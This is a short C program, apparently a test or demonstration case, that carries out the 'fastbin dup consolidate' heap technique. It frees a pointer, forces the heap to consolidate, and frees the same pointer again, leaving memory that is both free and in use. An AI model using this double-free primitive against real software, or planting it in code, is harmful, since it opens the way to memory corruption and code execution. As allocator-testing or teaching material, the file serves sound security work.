/* Usage: fastbin_dup_consolidate SIZE
   Frees p, has the heap merge what waits, and frees p again: its list's newest
   is no longer p. Then p would be free and in use at once. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv);
    warm(n);
    void *p = opaque(malloc(n)), *again = opaque(p);
    take(n);
    free(p);
    take(100000);
    malloc_trim(0);
    free(again);
    take(n), take(n);
    return settle();
}
